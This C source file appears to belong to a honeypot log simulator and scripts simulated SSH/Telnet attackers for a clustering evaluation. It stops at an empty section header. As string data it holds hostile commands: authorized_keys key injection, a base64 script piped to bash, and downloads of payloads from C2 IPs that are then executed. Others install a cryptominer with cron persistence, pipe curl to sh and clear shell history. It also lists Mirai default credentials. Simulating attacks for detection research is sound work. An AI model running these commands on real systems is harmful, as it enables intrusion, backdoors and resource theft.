/* actors.c — the simulated attackers behind the generated logs.
 *
 * Each actor has its own infrastructure (IP pool), tooling (SSH client, hence banner and HASSH),
 * timing (time of day, pace between commands) and script; some have several campaigns. They are
 * modelled on public descriptions of Linux/IoT honeypot traffic (key-injecting botnets, Mirai
 * loaders, miners, proxy abuse, credential stuffing) and include deliberately hard cases for the
 * clustering evaluation. docs/simulator.md describes every actor and what makes it recognisable.
 */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "sim/sim.h"
#include "util/hash.h"

#define SEC SIM_US_PER_SEC
#define MS (SIM_US_PER_SEC / 1000)
#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

typedef struct cred {
    const char *user, *pass;
} cred;

typedef struct ip_pool {
    char (*ip)[48];
    size_t n, cap;
} ip_pool;

typedef struct run_ctx run_ctx;
typedef void (*script_fn)(run_ctx *c);

enum { T_UNIFORM, T_DIURNAL, T_BURSTS };

typedef struct actor_def {
    const char *name;
    const char *campaigns[3];
    double per_day;  /* sessions per day at scale 1.0, over all sensors */
    int timing;
    int peak_hour;   /* T_DIURNAL */
    int one_sensor;  /* works one sensor per day */
    int midnight;    /* one session a day starts at 23:59:5x and runs past midnight */
    script_fn script;
} actor_def;

typedef struct actors_state {
    ip_pool pools[16];
    unsigned *snow_cursor; /* per sensor */
    unsigned brute_cursor;
    cred *snow_list;
    size_t snow_n;
} actors_state;

struct run_ctx {
    sim_world *w;
    actors_state *st;
    unsigned actor;
    unsigned sensor;
    int64_t start;
    sim_session s;
};

/* ---- shared tables -------------------------------------------------------------------------- */

static const char *const archs[] = {
    "linux-x64-lsb",     "linux-arm-lsb",    "linux-mips-lsb",   "linux-mips-msb",
    "linux-aarch64-lsb", "linux-x86-lsb",    "linux-sparc-msb",  "linux-powerpc-msb",
    "bsd-mips64-lsb",    "linux-sh-lsb",     "linux-hppa64-msb", "linux-arc-lsb",
    "linux-c6x-lsb",     "linux-tilegx-lsb", "bsd-x32-lsb",      "osx-x32-lsb"};

static const cred mirai_creds[] = {
    {"root", "xc3511"},   {"root", "vizxv"},        {"admin", "admin"},    {"root", "888888"},
    {"root", "xmhdipc"},  {"root", "default"},      {"root", "juantech"},  {"root", "123456"},
    {"root", "54321"},    {"support", "support"},   {"root", ""},          {"admin", "password"},
    {"root", "root"},     {"root", "12345"},        {"user", "user"},      {"admin", ""},
    {"root", "pass"},     {"admin", "admin1234"},   {"root", "1111"},      {"admin", "smcadmin"},
    {"admin", "1111"},    {"root", "666666"},       {"root", "password"},  {"root", "1234"},
    {"root", "klv123"},   {"Administrator", "admin"}, {"service", "service"},
    {"guest", "guest"},   {"guest", "12345"},       {"ubnt", "ubnt"},      {"root", "Zte521"},
    {"root", "hi3518"},   {"root", "jvbzd"},        {"root", "anko"},      {"root", "zlxx."},
    {"root", "7ujMko0vizxv"}, {"root", "7ujMko0admin"}, {"root", "system"}, {"root", "ikwb"},
    {"root", "dreambox"}, {"root", "realtek"},      {"root", "00000000"},  {"admin", "1234"},
    {"admin", "12345"},   {"admin", "54321"},       {"admin", "123456"},   {"tech", "tech"},
    {"mother", "fucker"}};

static const char *const common_users[] = {
    "root",   "admin",    "user",   "test",  "ubuntu", "oracle",    "postgres", "git",
    "ftpuser", "pi",      "guest",  "deploy", "hadoop", "minecraft", "steam",   "nagios",
    "jenkins", "tomcat",  "ts3",    "support"};

static const char *const common_passwords[] = {
    "123456",   "password", "12345678", "qwerty",  "123456789", "12345",    "1234",
    "111111",   "1234567",  "dragon",   "123123",  "baseball",  "abc123",   "football",
    "monkey",   "letmein",  "696969",   "shadow",  "master",    "666666",   "qwertyuiop",
    "123321",   "mustang",  "1234567890", "michael", "654321",  "superman", "1qaz2wsx",
    "7777777",  "121212",   "000000",   "qazwsx",  "123qwe",    "killer",   "trustno1",
    "jordan",   "jennifer", "zxcvbnm",  "asdfgh",  "P@ssw0rd",  "admin123", "changeme"};

/* Keys: generated offline once for the simulator (2048-bit RSA, valid ssh-rsa blobs). */
static const char key_mdrfckr[] =
    "AAAAB3NzaC1yc2EAAAADAQABAAABAQDU62ddjTSdSME5BMeQlmCbC196e2fXXODMKN8fiDAXhcwX5FHbULCs2Pcpi"
    "J2smfQZ9VgXwmXy4ZMx73VQ0l1Nr3aYY8yjdsBEM4kJdNeDNOr/BnsO8VL3DOFYX2jZFnQn6o5jOjtaQBQ0SzH4cYz"
    "S/eaiScEYpsFVEIDYedTeunl219BvryedzOpXaDXNEmcS6DntP2nr+x4eqkprsVXIjMA6PKjYhEs0FXNCiJ4+wafX6f"
    "C2CJGXxdxzgKrJ9MF4a5MBGRwAHdWbtI7pIIvq5TWLTxJiTq9tpLQS9rpBcrcjNjn3I1DV7rO1O41v/KrF8sm1Sr46"
    "qoBHF/pO13X9";
static const char key_b[] =
    "AAAAB3NzaC1yc2EAAAADAQABAAABAQCMdDksc7zlMUdWqsdDOFBfO/weiWTaj8X7Y0D3w/2qIsEDFNufy/Lq8ldiJ3"
    "o8GUQRXfCTqprIh4eWbIu3pQ2WrEC8HALrWN/6LU0gLQkR5DoTQe5QWYYrEnSE4aMudKpCG+9MCLEOB8MEQtl6ytY3"
    "tHdN3IWSok5L5RkRqCZG2DLoo+8qGD9YrzyKBq7xA4FRvXUnZ/xcWtiqgF4gA0Y++GdsqbUz9YRosb6WqSeecyEtsO"
    "ygZcIFRaLXz94RIUWR9X3LxitqCFuZ2+vs0HgMZT4wzEXASMM+yT++J3NEsD8a82qmMxw5UfLWagZLFEZncdozsbEHg"
    "TWi7n08FLkJ";
static const char key_b_fp[] = "d7:5b:3b:66:b0:27:96:13:f6:f6:f4:4e:87:1d:92:aa";
static const char key_recon[] =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEf0gCm21TmPzUGNVeTNDVKZw58e5F5TPYoXsSOn0o19";
static const char key_recon_fp[] = "de:c3:af:9d:0a:bc:46:27:45:d9:7a:c2:5e:06:9b:8e";

static const char wallet_a[] = "48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4"
                               "gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf";

static const char dota_b64[] =
    "IyEvYmluL2Jhc2gKY2QgL3RtcApybSAtcmYgLnNzaCAubW91bnRmcyAuWDEzLXVuaXggLlgxNy11bml4IC5YMTktdW"
    "5peApta2RpciAuWDE5LXVuaXggJiYgY2QgLlgxOS11bml4Cm12IC92YXIvdG1wL2RvdGEzLnRhci5neiBkb3RhMy50"
    "YXIuZ3oKdGFyIHhmIGRvdGEzLnRhci5negpzbGVlcCAzcyAmJiBjZCAvdG1wLy5YMTktdW5peC8ucnN5bmMvYwpub2h"
    "1cCAvdG1wLy5YMTktdW5peC8ucnN5bmMvYy90c20gLXQgMTUwIC1TIDYgLXMgNiAtcCAyMiAtUCAwIC1mIDAgLWsgMS"
    "AtbCAxIC1pIDAgL3RtcC91cC50eHQgMTkyLjE2OCA+PiAvZGV2L251bGwgMj4xJgpzbGVlcCA4bSAmJiBub2h1cCAvd"
    "G1wLy5YMTktdW5peC8ucnN5bmMvYy90c20gLXQgMTUwIC1TIDYgLXMgNiAtcCAyMiAtUCAwIC1mIDAgLWsgMSAtbCAx"
    "IC1pIDAgL3RtcC91cC50eHQgMTcyLjE2ID4+IC9kZXYvbnVsbCAyPjEmCnNsZWVwIDIwbSAmJiBjZCAuLjsgL3RtcC8"
    "uWDE5LXVuaXgvLnJzeW5jL2luaXRhbGwgMj4mMQpleGl0IDAK";

/* ---- helpers -------------------------------------------------------------------------------- */

static sim_rng *R(run_ctx *c) { return &c->w->rng; }

/* The simulated honeypot's user database (Cowrie-like): root with any password but a few, and
 * any account whose password equals its name. */
static int honeypot_accepts(const char *user, const char *pass)
{
    if (!strcmp(user, "root"))
        return strcmp(pass, "root") && strcmp(pass, "123456") && strcmp(pass, "");
    return !strcmp(user, pass) && strcmp(user, "test");
}

static const char *pick_ip(run_ctx *c, unsigned pool)
{
    ip_pool *p = &c->st->pools[pool];
    double u = sim_unit(R(c));
    size_t i = (size_t)(u * u * (double)p->n);
    return p->ip[i < p->n ? i : p->n - 1];
}

static void begin(run_ctx *c, const char *ip, int telnet, unsigned client, unsigned campaign)
{
    sim_session_begin(&c->s, c->w, c->sensor, c->start, ip, telnet,
                      sim_client_get(c->w, client), (uint16_t)c->actor, (uint16_t)campaign);
    sim_ev_connect(&c->s);
    if (!telnet) {
        sim_wait(&c->s, 5 * MS, 40 * MS);
        sim_ev_client(&c->s);
    }
}

/* Tries credentials in order until the honeypot accepts one; returns 1 when logged in. */
static int try_login(run_ctx *c, const char *user, const char *pass, int64_t lo, int64_t hi)
{
    sim_wait(&c->s, lo, hi);
    int ok = honeypot_accepts(user, pass);
    sim_ev_login(&c->s, user, pass, ok);
    return ok;
}

static const char *rand_arch(run_ctx *c) { return archs[sim_below(R(c), NELEM(archs))]; }

/* An exec request (ssh host 'cmd'): Cowrie logs params, input, tty close per command. */
static void exec_cmd(run_ctx *c, const char *arch, const char *cmd, const char *not_found,
                     int64_t lo, int64_t hi)
{
    sim_wait(&c->s, lo, hi);
    sim_ev_shell(&c->s, arch);
    sim_wait(&c->s, 500, 3 * MS);
    sim_ev_input(&c->s, cmd);
    if (not_found) {
        sim_wait(&c->s, 500, 4 * MS);
        sim_ev_cmd_result(&c->s, not_found, 0);
    }
    sim_wait(&c->s, 15 * MS, 40 * MS);
    sim_ev_tty_closed(&c->s);
}

/* A command typed into an interactive shell. */
static void shell_cmd(run_ctx *c, const char *cmd, int64_t lo, int64_t hi)
{
    sim_wait(&c->s, lo, hi);
    sim_ev_input(&c->s, cmd);
}

static void close_session(run_ctx *c, int64_t lo, int64_t hi)
{
    sim_wait(&c->s, lo, hi);
    sim_ev_closed(&c->s);
}

static void sha_of(const char *what, char out[65]) { sim_fake_sha256(what, 1, out); }

/* ---- 0: mdrfckr-style key injector ---------------------------------------------------------- */

static void run_mdrfckr(run_ctx *c)
{
    int dota = sim_chance(R(c), 0.3);
    begin(c, pick_ip(c, 0), 0, SIM_CL_LIBSSH063, dota ? 1 : 0);
    static const cred creds[] = {{"root", "admin"}, {"root", "1qaz@WSX"}, {"home", "home"},
                                 {"root", "Passw0rd"}, {"pi", "pi"}, {"root", "toor"},
                                 {"user", "user"}, {"root", "raspberry"}, {"root", "P@ssw0rd"}};
    const cred *cr = &creds[sim_below(R(c), NELEM(creds))];
    if (!try_login(c, cr->user, cr->pass, 40 * MS, 120 * MS)) {
        close_session(c, 50 * MS, 300 * MS);
        return;
    }
    const char *arch = rand_arch(c);
    int64_t lo = 150 * MS, hi = 260 * MS;
    char buf[1400];
    exec_cmd(c, arch, "cat /proc/cpuinfo | grep name | wc -l", NULL, lo, hi);
    if (dota) {
        char npw[16];
        for (int i = 0; i < 12; i++)
            npw[i] = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789"[sim_below(R(c), 58)];
        npw[12] = 0;
        snprintf(buf, sizeof buf, "echo -e \"%s\\n%s\\n%s\"|passwd|bash", cr->pass, npw, npw);
        sim_wait(&c->s, lo, hi);
        sim_ev_shell(&c->s, arch);
        sim_ev_input(&c->s, buf);
        sim_wait(&c->s, 1 * MS, 5 * MS);
        sim_ev_input(&c->s, "Enter new UNIX password: ");
        sim_wait(&c->s, 1 * MS, 3 * MS);
        sim_ev_cmd_result(&c->s, "Enter new UNIX password:", 0);
        sim_wait(&c->s, 20 * MS, 40 * MS);
        sim_ev_tty_closed(&c->s);
    }
    exec_cmd(c, arch, "cd ~; chattr -ia .ssh; lockr -ia .ssh", "lockr -ia .ssh", lo, hi);
    snprintf(buf, sizeof buf,
             "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa %s mdrfckr\">>.ssh/"
             "authorized_keys && chmod -R go= ~/.ssh && cd ~",
             key_mdrfckr);
    sim_wait(&c->s, lo, hi);
    sim_ev_shell(&c->s, arch);
    sim_ev_input(&c->s, buf);
    sim_wait(&c->s, 1 * MS, 5 * MS);
    char sha[65], dest[64];
    sha_of(key_mdrfckr, sha);
    if (strcmp(cr->user, "root"))
        snprintf(dest, sizeof dest, "/home/%s/.ssh/authorized_keys", cr->user);
    else
        snprintf(dest, sizeof dest, "/root/.ssh/authorized_keys");
    sim_ev_redirect(&c->s, dest, sha);
    sim_wait(&c->s, 15 * MS, 30 * MS);
    sim_ev_tty_closed(&c->s);
    exec_cmd(c, arch, "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
             "cat /proc/cpuinfo | grep name | head -n 1 | awk {print $4,$5,$6,$7,$8,$9;}", lo, hi);
    exec_cmd(c, arch, "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
             "free -m | grep Mem | awk {print $2 ,$3, $4, $5, $6, $7}", lo, hi);
    exec_cmd(c, arch, "ls -lh $(which ls)", NULL, lo, hi);
    exec_cmd(c, arch, "which ls", NULL, lo, hi);
    exec_cmd(c, arch, "crontab -l", NULL, lo, hi);
    exec_cmd(c, arch, "w", NULL, lo, hi);
    exec_cmd(c, arch, "uname -m", NULL, lo, hi);
    exec_cmd(c, arch, "cat /proc/cpuinfo | grep model | grep name | wc -l", NULL, lo, hi);
    exec_cmd(c, arch, "top", NULL, lo, hi);
    exec_cmd(c, arch, "uname", NULL, lo, hi);
    exec_cmd(c, arch, "uname -a", NULL, lo, hi);
    exec_cmd(c, arch, "whoami", NULL, lo, hi);
    exec_cmd(c, arch, "lscpu | grep Model", NULL, lo, hi);
    exec_cmd(c, arch, "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
             "df -h | head -n 2 | awk FNR == 2 {print $2;}", lo, hi);
    if (dota) {
        sim_wait(&c->s, 20 * SEC, 40 * SEC);
        char usha[65];
        sha_of("dota3.tar.gz-v3", usha);
        sim_ev_upload(&c->s, "dota3.tar.gz", usha);
        snprintf(buf, sizeof buf, "sleep 15s && cd /var/tmp; echo \"%s\" | base64 --decode | bash",
                 dota_b64);
        exec_cmd(c, arch, buf, NULL, 200 * MS, 400 * MS);
    }
    close_session(c, 5 * MS, 30 * MS);
}

/* ---- 1: Mirai / busybox loader (ECCHI tag) -------------------------------------------------- */

static void run_mirai(run_ctx *c)
{
    int telnet = sim_chance(R(c), 0.75);
    begin(c, pick_ip(c, 1), telnet, SIM_CL_LIBSSH2_143, 0);
    int ok = 0;
    unsigned tries = 1 + sim_below(R(c), 4);
    for (unsigned i = 0; i < tries && !ok; i++) {
        const cred *cr = &mirai_creds[sim_below(R(c), NELEM(mirai_creds))];
        ok = try_login(c, cr->user, cr->pass, 400 * MS, 1500 * MS);
    }
    if (!ok) {
        close_session(c, 100 * MS, 2 * SEC);
        return;
    }
    sim_wait(&c->s, 100 * MS, 300 * MS);
    sim_ev_shell(&c->s, rand_arch(c));
    int64_t lo = 2 * MS, hi = 350 * MS;
    shell_cmd(c, "enable", lo, hi);
    shell_cmd(c, "system", lo, hi);
    sim_ev_cmd_result(&c->s, "system", 0);
    shell_cmd(c, "shell", lo, hi);
    sim_ev_cmd_result(&c->s, "shell", 0);
    shell_cmd(c, "sh", lo, hi);
    shell_cmd(c, "/bin/busybox ECCHI", lo, hi);
    shell_cmd(c, "/bin/busybox ps; /bin/busybox ECCHI", lo, hi);
    shell_cmd(c, "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", lo, hi);
    shell_cmd(c, "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat "
                 "/dev/.nippon; /bin/busybox rm /dev/.nippon", lo, hi);
    static const char *const c2s[] = {"185.244.25.153", "185.244.25.154"};
    const char *c2 = c2s[c->start / SIM_US_PER_DAY % 2];
    char cmd[1024], url[128], sha[65];
    snprintf(cmd, sizeof cmd,
             "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://%s/bins.sh; chmod "
             "777 bins.sh; sh bins.sh; tftp %s -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; "
             "tftp -r tftp2.sh -g %s; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p "
             "anonymous -P 21 %s ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh "
             "ftp1.sh; rm -rf *",
             c2, c2, c2, c2);
    shell_cmd(c, cmd, 50 * MS, 400 * MS);
    snprintf(url, sizeof url, "http://%s/bins.sh", c2);
    sim_wait(&c->s, 300 * MS, 3 * SEC);
    if (sim_chance(R(c), 0.8)) {
        sha_of(url, sha);
        sim_ev_download(&c->s, url, "/tmp/bins.sh", sha);
        if (sim_chance(R(c), 0.1))
            sim_ev_virustotal(&c->s, sha, 38);
    } else {
        sim_ev_download_failed(&c->s, url);
    }
    sim_wait(&c->s, 2 * MS, 20 * MS);
    sim_ev_cmd_result(&c->s, "ftpget -v -u anonymous -p anonymous -P 21 ftp1.sh ftp1.sh", 0);
    close_session(c, 1 * SEC, 6 * SEC);
}

/* ---- 2: XMRig miner installer ---------------------------------------------------------------- */

static void run_xmrig(run_ctx *c)
{
    begin(c, pick_ip(c, 2), 0, SIM_CL_PARAMIKO, 0);
    if (sim_chance(R(c), 0.3))
        try_login(c, "root", "root", 200 * MS, 600 * MS);
    static const char *const pw[] = {"admin123", "qwerty123", "Huawei@123", "abc123", "1q2w3e4r"};
    if (!try_login(c, "root", pw[sim_below(R(c), NELEM(pw))], 200 * MS, 600 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    sim_wait(&c->s, 200 * MS, 500 * MS);
    sim_ev_shell(&c->s, "linux-x64-lsb");
    int64_t lo = 400 * MS, hi = 1200 * MS;
    shell_cmd(c, "uname -a", lo, hi);
    shell_cmd(c, "nproc", lo, hi);
    shell_cmd(c, "cat /proc/meminfo | grep MemTotal", lo, hi);
    const char *url = "http://167.99.142.17/x/xmrig-6.21.0-linux-static-x64.tar.gz";
    char cmd[1024], sha[65];
    snprintf(cmd, sizeof cmd, "cd /tmp && wget -q %s || curl -s -O %s", url, url);
    shell_cmd(c, cmd, lo, hi);
    sim_wait(&c->s, 1 * SEC, 4 * SEC);
    sha_of(url, sha);
    sim_ev_download(&c->s, url, "/tmp/xmrig-6.21.0-linux-static-x64.tar.gz", sha);
    if (sim_chance(R(c), 0.15))
        sim_ev_virustotal(&c->s, sha, 31);
    shell_cmd(c, "tar xzf xmrig-6.21.0-linux-static-x64.tar.gz && mv xmrig-6.21.0 .cache-x && cd "
                 ".cache-x", lo, hi);
    snprintf(cmd, sizeof cmd,
             "./xmrig -o pool.supportxmr.com:443 -u %s -k --tls -p sim --background", wallet_a);
    shell_cmd(c, cmd, lo, hi);
    snprintf(cmd, sizeof cmd,
             "(crontab -l 2>/dev/null; echo \"@reboot cd /tmp/.cache-x && ./xmrig -o "
             "pool.supportxmr.com:443 -u %s -k --tls --background\") | crontab -",
             wallet_a);
    shell_cmd(c, cmd, lo, hi);
    shell_cmd(c, "history -c", lo, hi);
    close_session(c, 100 * MS, 1 * SEC);
}

/* ---- 3: recon script, no payload (IPv6 in part) --------------------------------------------- */

static void run_recon(run_ctx *c)
{
    begin(c, pick_ip(c, 3), 0, SIM_CL_OPENSSH82, 0);
    sim_wait(&c->s, 50 * MS, 200 * MS);
    sim_ev_fingerprint(&c->s, "root", "ssh-ed25519", key_recon, key_recon_fp);
    if (!try_login(c, "root", "P@ssw0rd2024", 300 * MS, 900 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    sim_wait(&c->s, 100 * MS, 300 * MS);
    sim_ev_size(&c->s, 80 + 40 * (int)sim_below(R(c), 2), 24 + 11 * (int)sim_below(R(c), 2));
    sim_ev_var(&c->s, "LANG", "en_US.UTF-8");
    sim_ev_shell(&c->s, "linux-x64-lsb");
    static const char *const cmds[] = {
        "uname -a", "uname -r", "lscpu", "nproc", "cat /etc/os-release", "cat /etc/issue",
        "ls -la", "ls -la /home", "id", "whoami", "w", "last -n 5", "df -h", "free -m",
        "ps aux | head -20", "cat /etc/passwd | grep -v nologin", "ip a || ifconfig",
        "netstat -tulpn 2>/dev/null | head", "exit"};
    for (size_t i = 0; i < NELEM(cmds); i++) {
        shell_cmd(c, cmds[i], 1500 * MS, 6 * SEC);
        if (!strcmp(cmds[i], "lscpu") || !strcmp(cmds[i], "last -n 5"))
            sim_ev_cmd_result(&c->s, cmds[i], 0);
    }
    close_session(c, 50 * MS, 300 * MS);
}

/* ---- 4: snowshoe credential stuffing --------------------------------------------------------- */

static void run_snowshoe(run_ctx *c)
{
    begin(c, pick_ip(c, 4), 0, SIM_CL_GO_OLD, 0);
    unsigned k = 2 + sim_below(R(c), 3);
    unsigned *cur = &c->st->snow_cursor[c->sensor];
    for (unsigned i = 0; i < k; i++) {
        const cred *cr = &c->st->snow_list[*cur % c->st->snow_n];
        (*cur)++;
        if (try_login(c, cr->user, cr->pass, 250 * MS, 800 * MS))
            break;
    }
    close_session(c, 20 * MS, 200 * MS);
}

/* ---- 5: service brute force from few IPs ---------------------------------------------------- */

static void run_brute(run_ctx *c)
{
    ip_pool *p = &c->st->pools[5];
    const char *ip = p->ip[(c->start / SIM_US_PER_DAY + (sim_chance(R(c), 0.1) ? 1 : 0)) % p->n];
    begin(c, ip, 0, SIM_CL_LIBSSH2_180, 0);
    static const char *const users[] = {"admin", "user", "test", "oracle", "postgres", "ubuntu",
                                        "git", "ftpuser", "pi", "support", "mysql", "nagios",
                                        "student", "hadoop", "apache", "ftp", "www", "test1"};
    unsigned k = 2 + sim_below(R(c), 5);
    for (unsigned i = 0; i < k; i++) {
        unsigned cur = c->st->brute_cursor++;
        const char *u = users[(cur / NELEM(common_passwords)) % NELEM(users)];
        const char *pw = common_passwords[cur % NELEM(common_passwords)];
        if (try_login(c, u, pw, 150 * MS, 400 * MS))
            break;
    }
    close_session(c, 10 * MS, 100 * MS);
}

/* ---- 6: proxy abuse through direct-tcpip ---------------------------------------------------- */

static size_t make_tls_hello(run_ctx *c, unsigned char *b, const char *host)
{
    size_t hl = strlen(host), n = 0;
    static const unsigned char head[] = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00,
                                         0x01, 0xfc, 0x03, 0x03};
    memcpy(b, head, sizeof head);
    n = sizeof head;
    for (int i = 0; i < 32; i++)
        b[n++] = (unsigned char)sim_below(R(c), 256);
    static const unsigned char suites[] = {0x00, 0x00, 0x1c, 0xc0, 0x2b, 0xc0, 0x2f, 0xc0,
                                           0x2c, 0xc0, 0x30, 0xcc, 0xa9, 0xcc, 0xa8, 0xc0,
                                           0x13, 0xc0, 0x14, 0x00, 0x9c, 0x00, 0x9d, 0x00,
                                           0x2f, 0x00, 0x35, 0x01, 0x00, 0x01, 0x97};
    memcpy(b + n, suites, sizeof suites);
    n += sizeof suites;
    b[n++] = 0x00;
    b[n++] = 0x00; /* server_name */
    b[n++] = 0x00;
    b[n++] = (unsigned char)(hl + 5);
    b[n++] = 0x00;
    b[n++] = (unsigned char)(hl + 3);
    b[n++] = 0x00;
    b[n++] = 0x00;
    b[n++] = (unsigned char)hl;
    memcpy(b + n, host, hl);
    n += hl;
    static const unsigned char tail[] = {0x00, 0x17, 0x00, 0x00, 0xff, 0x01, 0x00, 0x01, 0x00,
                                         0x00, 0x0a, 0x00, 0x0a, 0x00, 0x08, 0x00, 0x1d, 0x00,
                                         0x17, 0x00, 0x18, 0x00, 0x19, 0x00, 0x0b, 0x00, 0x02,
                                         0x01, 0x00, 0x00, 0x23, 0x00, 0x00};
    memcpy(b + n, tail, sizeof tail);
    return n + sizeof tail;
}

static void run_proxy(run_ctx *c)
{
    int mail = sim_chance(R(c), 0.25);
    begin(c, pick_ip(c, 6), 0, SIM_CL_GO_GCM, mail ? 1 : 0);
    if (!try_login(c, "admin", "admin", 100 * MS, 300 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    unsigned k = 1 + sim_below(R(c), 4);
    for (unsigned i = 0; i < k; i++) {
        unsigned char data[1024];
        size_t n;
        sim_wait(&c->s, 100 * MS, 2 * SEC);
        if (mail) {
            static const char *const mx[] = {"mx1.mail.ru", "smtp.gmail.com", "mx.yandex.ru",
                                             "mta5.am0.yahoodns.net", "smtp.office365.com"};
            const char *h = mx[sim_below(R(c), NELEM(mx))];
            int port = sim_chance(R(c), 0.5) ? 25 : 587;
            n = (size_t)snprintf((char *)data, sizeof data, "EHLO User\r\n");
            sim_ev_tcpip(&c->s, h, port, data, n);
        } else {
            static const char *const web[] = {"ya.ru", "www.google.com", "api.ipify.org",
                                              "89.39.105.12", "www.bing.com", "ip-api.com",
                                              "www.instagram.com", "accounts.spotify.com"};
            const char *h = web[sim_below(R(c), NELEM(web))];
            if (sim_chance(R(c), 0.6)) {
                n = make_tls_hello(c, data, h);
                sim_ev_tcpip(&c->s, h, 443, data, n);
            } else {
                const char *path = !strcmp(h, "89.39.105.12") ? "/ip.shtml"
                                   : !strcmp(h, "ip-api.com") ? "/json"
                                                              : "/";
                n = (size_t)snprintf((char *)data, sizeof data,
                                     "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", path, h);
                sim_ev_tcpip(&c->s, h, 80, data, n);
            }
        }
    }
    close_session(c, 200 * MS, 3 * SEC);
}

/* ---- 7, 8: two actors running the same public honeypot-detection script --------------------- */

static const char *const pubscript[] = {
    "echo -e \"\\x6F\\x6B\"",
    "cat /proc/1/mounts && ls /proc/1/; curl2; ps aux; ps",
    "cat /etc/hostname",
    "ls -la /home/phil",
    "cat /proc/uptime",
    "ifconfig",
    "ls /var/lib/cowrie 2>/dev/null; echo $?",
    "uname -a && lspci | grep -i vga",
    "exit"};

static void run_pubscript(run_ctx *c, unsigned pool, unsigned client, int64_t lo, int64_t hi,
                          const cred *cr)
{
    begin(c, pick_ip(c, pool), 0, client, 0);
    if (!try_login(c, cr->user, cr->pass, 100 * MS, 500 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    sim_wait(&c->s, 100 * MS, 300 * MS);
    sim_ev_shell(&c->s, rand_arch(c));
    for (size_t i = 0; i < NELEM(pubscript); i++) {
        shell_cmd(c, pubscript[i], lo, hi);
        if (i == 1)
            sim_ev_cmd_result(&c->s, "curl2", 0);
    }
    close_session(c, 10 * MS, 100 * MS);
}

static void run_pub_a(run_ctx *c)
{
    static const cred cr = {"root", "12345678"};
    run_pubscript(c, 7, SIM_CL_GO_OLD, 50 * MS, 200 * MS, &cr);
}

static void run_pub_b(run_ctx *c)
{
    static const cred cr = {"root", "Aa123456"};
    run_pubscript(c, 8, SIM_CL_LIBSSH096, 1500 * MS, 4 * SEC, &cr);
}

/* ---- 9: one actor, C2 and script version changed mid-period --------------------------------- */

static void run_rotating(run_ctx *c)
{
    unsigned switch_day = c->w->days_planned / 2 ? c->w->days_planned / 2 : 1;
    int v2 = c->w->day_index >= switch_day;
    begin(c, pick_ip(c, 9), 0, SIM_CL_PUTTY, v2 ? 1 : 0);
    static const char *const pw[] = {"admin", "1234", "password", "12345"};
    if (!try_login(c, "root", pw[sim_below(R(c), NELEM(pw))], 300 * MS, 900 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    sim_wait(&c->s, 100 * MS, 300 * MS);
    sim_ev_shell(&c->s, rand_arch(c));
    int64_t lo = 300 * MS, hi = 900 * MS;
    shell_cmd(c, "uname -a; nproc; cat /proc/cpuinfo | grep 'model name' | head -1", lo, hi);
    shell_cmd(c, "nvidia-smi -q | grep 'Product Name'", lo, hi);
    sim_ev_cmd_result(&c->s, "nvidia-smi -q", 0);
    char cmd[512], url[128], sha[65];
    if (!v2) {
        snprintf(url, sizeof url, "http://194.38.20.31/sh/x86.sh");
        snprintf(cmd, sizeof cmd, "cd /tmp || cd /var/tmp; wget %s -O .x; chmod +x .x; ./.x ssh.v1",
                 url);
        shell_cmd(c, cmd, lo, hi);
        sim_wait(&c->s, 500 * MS, 2 * SEC);
        sha_of("rot-v1-x86.sh", sha);
        sim_ev_download(&c->s, url, "/tmp/.x", sha);
        shell_cmd(c, "rm -rf ~/.bash_history; history -c", lo, hi);
    } else {
        snprintf(url, sizeof url, "http://45.95.147.88/v2/init.sh");
        snprintf(cmd, sizeof cmd,
                 "systemctl disable --now ufw 2>/dev/null; cd /dev/shm || cd /tmp; curl -fsSL %s -o "
                 ".init; chmod +x .init; ./.init ssh.v2",
                 url);
        shell_cmd(c, cmd, lo, hi);
        sim_wait(&c->s, 500 * MS, 2 * SEC);
        sha_of("rot-v2-init.sh", sha);
        sim_ev_download(&c->s, url, "/dev/shm/.init", sha);
        shell_cmd(c, "rm -rf ~/.bash_history; history -c; unset HISTFILE", lo, hi);
    }
    close_session(c, 200 * MS, 1 * SEC);
}

/* ---- 10: curl|sh dropper in the same cloud range as the miner -------------------------------- */

static void run_curlpipe(run_ctx *c)
{
    begin(c, pick_ip(c, 10), 0, SIM_CL_GO_OLD, 0);
    if (!try_login(c, "ubuntu", "ubuntu", 100 * MS, 400 * MS)) {
        close_session(c, 20 * MS, 200 * MS);
        return;
    }
    sim_wait(&c->s, 50 * MS, 150 * MS);
    sim_ev_shell(&c->s, "linux-x64-lsb");
    const char *url = "http://167.99.41.7/k.sh";
    shell_cmd(c, "(curl -fsSL http://167.99.41.7/k.sh||wget -q -O- http://167.99.41.7/k.sh)|sh",
              100 * MS, 300 * MS);
    char sha[65];
    sim_wait(&c->s, 300 * MS, 1 * SEC);
    sha_of(url, sha);
    if (sim_chance(R(c), 0.85))
        sim_ev_download(&c->s, url, "-", sha);
    else
        sim_ev_download_failed(&c->s, url);
    close_session(c, 1 * SEC, 5 * SEC);
}

/* ---- 11: a second key injector, different key and tooling ----------------------------------- */

